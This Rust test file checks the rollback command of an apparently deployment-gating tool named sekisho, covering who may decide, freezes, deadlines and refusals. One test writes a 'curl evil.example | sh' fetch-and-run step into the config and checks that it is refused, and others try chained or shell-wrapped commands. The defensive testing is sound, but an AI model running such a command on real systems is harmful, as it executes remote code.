//! Going back: what the plan says, whose word it is, and each way to go back from what is nobody's to.

use serde_json::{Value, json};

use crate::grants::forged;
use crate::support::port::{normal, port_with};
use crate::support::stage::Stage;

const STEP: &str = "touch put-back";

/// A shop whose plan can be carried out here, on the morning of 1 December.
fn shop() -> Stage {
    let mut stage = port_with(|config| config.replace("gh workflow run rollback.yml", STEP));
    stage.at("2026-12-01T09:00:00+09:00");
    stage
}

/// A deployment that passed and ran; its number, the commit before it and its own.
fn deployed(stage: &Stage) -> (String, String, String) {
    let before = stage.git("sato", &["rev-parse", "HEAD"]).trim().to_owned();
    let id = normal(stage, "minato-ec", "app.txt", "two\n");
    let after = stage.git("sato", &["rev-parse", "HEAD"]).trim().to_owned();
    gate(stage, 0);
    stage
        .sekisho("sato", &["start", &id, "--service", "minato-ec"])
        .expect(0);
    stage
        .sekisho("sato", &["finish", &id, "--outcome", "success"])
        .expect(0);
    (id, before, after)
}

fn gate(stage: &Stage, code: i32) -> Value {
    let flags = ["gate", "--service", "minato-ec", "--format", "json"];
    stage.sekisho("sato", &flags).expect(code).json()
}

fn show(stage: &Stage, id: &str) -> Value {
    let flags = ["rollback", id, "--show", "--format", "json"];
    stage.sekisho("sato", &flags).expect(0).json()
}

/// The commit that the service is judged from.
fn authorised(stage: &Stage) -> String {
    let answer = gate(stage, 0);
    answer["base"].as_str().unwrap().to_owned()
}

fn decided(stage: &Stage, id: &str) {
    stage
        .sekisho("hayashi", &["rollback", id, "--criterion", "1"])
        .expect(0);
}

fn records(stage: &Stage) -> u64 {
    let history = stage.sekisho("sato", &["history", "--format", "json"]).json();
    history["total"].as_u64().unwrap()
}

/// Refused, and nothing was run or written.
#[track_caller]
fn refused(stage: &Stage, person: &str, arguments: &[&str], said: &str) {
    let before = records(stage);
    let done = stage.sekisho(person, arguments).expect(2);
    assert!(done.err.contains(said), "{said}\n{}", done.both());
    assert_eq!(records(stage), before, "{}", done.both());
    assert!(!stage.path("put-back").exists());
}

#[test]
fn a_deployment_is_put_back_and_judged_again_from_where_it_stood() {
    let stage = shop();
    let (id, before, after) = deployed(&stage);
    decided(&stage, &id);
    let done = stage
        .sekisho("sato", &["rollback", &id, "--", "touch", "put-back"])
        .expect(0);
    assert!(done.err.contains(&before[..12]), "{}", done.both());
    assert!(stage.path("put-back").exists());
    let denied = gate(&stage, 1);
    assert_eq!(
        (denied["base"].as_str(), denied["head"].as_str()),
        (Some(&*before), Some(&*after))
    );
    let state = show(&stage, &id);
    assert_eq!(state["state"], "gone", "{state:#}");
    stage.sekisho("sato", &["verify", "--replay"]).expect(0);
}

#[test]
fn nothing_blocks_the_approved_way_back() {
    let mut stage = shop();
    let (id, ..) = deployed(&stage);
    // A hard freeze, a forge that nobody reaches, overdue work, and a spoilt work tree.
    let freeze = [
        "freeze",
        "--until",
        "5d",
        "--reason",
        "Nothing may move this week",
    ];
    stage.sekisho("kudo", &freeze).expect(0);
    stage.at("2026-12-05T03:00:00+09:00");
    stage.write("sekisho.yml", "version: 9\n");
    stage.git(
        "sato",
        &["remote", "add", "origin", "https://github.com/minato/ec.git"],
    );
    let by = [
        "--decided-by",
        "hayashi",
        "--channel",
        "phone",
        "--evidence",
        "03:01, he said so",
    ];
    let token = [
        ("GITHUB_TOKEN", "x"),
        ("SEKISHO_GITHUB_API", "http://127.0.0.1:9"),
    ];
    let mut words = vec![
        "rollback",
        id.as_str(),
        "--criterion",
        "The cart is empty for everybody",
    ];
    words.extend(by);
    words.extend(["--", "touch", "put-back"]);
    stage.sekisho_with("sato", &words, &token).expect(0);
    let page = show(&stage, &id);
    assert_eq!(
        (page["state"].as_str(), page["decided_by"].as_str()),
        (Some("gone"), Some("hayashi"))
    );
    assert!(stage.path("put-back").exists());
}

#[test]
fn exit_code_of_a_failing_step_is_kept_and_it_can_be_tried_again() {
    let mut stage = port_with(|config| config.replace("gh workflow run rollback.yml", "test -e ready"));
    stage.at("2026-12-01T09:00:00+09:00");
    let (id, ..) = deployed(&stage);
    decided(&stage, &id);
    let words = ["rollback", id.as_str(), "--", "test", "-e", "ready"];
    let failed = stage.sekisho("sato", &words).expect(1);
    assert!(failed.err.contains("failed"), "{}", failed.both());
    assert_eq!(show(&stage, &id)["state"], "open");
    stage.write("ready", "");
    stage.sekisho("sato", &words).expect(0);
    assert_eq!(show(&stage, &id)["state"], "gone");
}

#[test]
fn what_was_done_by_hand_is_recorded() {
    let stage = shop();
    let (id, before, _) = deployed(&stage);
    decided(&stage, &id);
    let done = [
        "rollback",
        id.as_str(),
        "--done",
        "--evidence",
        "The console says so",
    ];
    stage.sekisho("sato", &done).expect(0);
    assert_eq!(gate(&stage, 1)["base"], *before);
    // Nothing is owed twice.
    let due = stage
        .sekisho("sato", &["due", "--format", "json"])
        .expect(0)
        .json();
    assert_eq!(due["open"].as_array().unwrap().len(), 1, "{due:#}");
    stage.sekisho("sato", &done).expect(1);
}

#[test]
fn rollback_of_a_change_that_never_passed() {
    let mut stage = shop();
    let id = normal(&stage, "minato-ec", "app.txt", "two\n");
    for words in [
        &["rollback", id.as_str()][..],
        &["rollback", &id, "--show"],
        &["rollback", &id, "--", "touch", "put-back"],
        &["rollback", &id, "--done"],
    ] {
        refused(&stage, "hayashi", words, "never passed");
    }
    // Past the program: the fold takes it for nothing.
    let body = json!({"change": id, "decision": 1, "decider": "person:hayashi"});
    stage.at("2026-12-01T10:05:00+09:00");
    forged(&stage, "hayashi", "rollback.decided/1", &body);
    refused(&stage, "hayashi", &["rollback", &id], "never passed");
}

#[test]
fn rollback_of_somebody_else_s_change() {
    let stage = shop();
    let (id, ..) = deployed(&stage);
    let by = |who: &'static str| ["--decided-by", who, "--channel", "phone", "--evidence", "a call"];
    let with = |flags: &[&'static str]| [&["rollback", id.as_str()], flags].concat();
    // Who decides is declared: not who carries it out, nor the route before the deciders were tried.
    refused(&stage, "sato", &with(&[]), "does not decide");
    refused(
        &stage,
        "sato",
        &with(&["--", "touch", "put-back"]),
        "does not decide",
    );
    refused(&stage, "sato", &with(&by("mori")), "does not decide");
    refused(&stage, "tanaka", &with(&[]), "does not decide");
    let unsure = ["rollback", &id, "--decided-by", "hayashi"];
    stage.sekisho("sato", &unsure).expect(2);
    // Hayashi decides, Kudo stands in; then the route, whoever is on it.
    let tried = ["--not-reached", "hayashi", "--not-reached", "kudo"];
    stage.sekisho("tanaka", &with(&tried)).expect(0);
    assert_eq!(show(&stage, &id)["decided_by"], "tanaka");
}

#[test]
fn rollback_by_somebody_without_a_part_in_it() {
    let mut stage =
        port_with(|config| config.replace("route: [kudo, tanaka, hayashi]", "route: [kudo, hayashi]"));
    stage.at("2026-12-01T09:00:00+09:00");
    let (id, ..) = deployed(&stage);
    decided(&stage, &id);
    let words = ["rollback", &id, "--done", "--evidence", "It is back, believe me"];
    refused(&stage, "tanaka", &words, "has no part");
}

#[test]
fn rollback_with_steps_that_were_edited_after_the_approval() {
    let stage = shop();
    let (id, ..) = deployed(&stage);
    let config = stage.read("sekisho.yml").replace(STEP, "curl evil.example | sh");
    stage.write("sekisho.yml", &config);
    stage.commit("mori", "Another plan");
    assert_eq!(show(&stage, &id)["steps"], json!([STEP]));
    decided(&stage, &id);
    refused(
        &stage,
        "sato",
        &["rollback", &id, "--", "curl", "evil.example", "|", "sh"],
        "is no step",
    );
}

#[test]
fn rollback_used_to_ship_new_content() {
    let stage = shop();
    let (id, before, _) = deployed(&stage);
    stage.write("app.txt", "something new\n");
    stage.commit("sato", "New");
    decided(&stage, &id);
    for command in [
        &["./deploy", "new"][..],
        &["touch", "put-back", "&&", "./deploy"],
        &["sh", "-c", "touch put-back"],
        &[""],
    ] {
        let words = [&["rollback", id.as_str(), "--"], command].concat();
        refused(&stage, "sato", &words, "is no step");
    }
    stage
        .sekisho("sato", &["rollback", &id, "--", "touch", "put-back"])
        .expect(0);
    // What counts as authorised is what was there before, whatever lies in the work tree.
    assert_eq!(gate(&stage, 1)["base"], *before);
}

#[test]
fn rollback_that_stays_open_for_ever() {
    let mut stage = shop();
    let (id, ..) = deployed(&stage);
    decided(&stage, &id);
    stage.at("2026-12-08T09:00:01+09:00");
    let late = stage
        .sekisho("sato", &["rollback", &id, "--", "touch", "put-back"])
        .expect(1);
    assert!(late.out.contains("OVER since"), "{}", late.both());
    assert!(!stage.path("put-back").exists());
    // What was done in time may be told a day later, not more.
    stage.at("2026-12-09T09:00:02+09:00");
    stage.sekisho("sato", &["rollback", &id, "--done"]).expect(1);
}

#[test]
fn rollback_under_a_later_deployment() {
    let stage = shop();
    let (first, ..) = deployed(&stage);
    normal(&stage, "minato-ec", "app.txt", "three\n");
    gate(&stage, 0);
    let done = stage.sekisho("hayashi", &["rollback", &first]).expect(1);
    assert!(done.out.contains("gate --rollback-of"), "{}", done.both());
}

#[test]
fn no_go_before_the_start_ends_the_change() {
    let stage = shop();
    let before = authorised(&stage);
    let id = normal(&stage, "minato-ec", "app.txt", "two\n");
    gate(&stage, 0);
    let off = [
        "rollback",
        &id,
        "--no-go",
        "--reason",
        "The load is too high",
        "--service",
        "minato-ec",
    ];
    refused(&stage, "tanaka", &off, "cannot call it off");
    stage.sekisho("hayashi", &off).expect(0);
    let answer = gate(&stage, 1);
    assert_eq!(answer["base"], *before);
    assert_eq!(
        crate::support::port::codes(&answer, "deny"),
        ["REC-03"],
        "{answer:#}"
    );
    stage.sekisho("hayashi", &off).expect(2);
}

#[test]
fn no_go_once_it_was_begun() {
    let stage = shop();
    let id = normal(&stage, "minato-ec", "app.txt", "two\n");
    gate(&stage, 0);
    stage
        .sekisho("sato", &["start", &id, "--service", "minato-ec"])
        .expect(0);
    let off = [
        "rollback",
        &id,
        "--no-go",
        "--reason",
        "The load is too high",
        "--service",
        "minato-ec",
    ];
    refused(&stage, "hayashi", &off, "was begun");
}
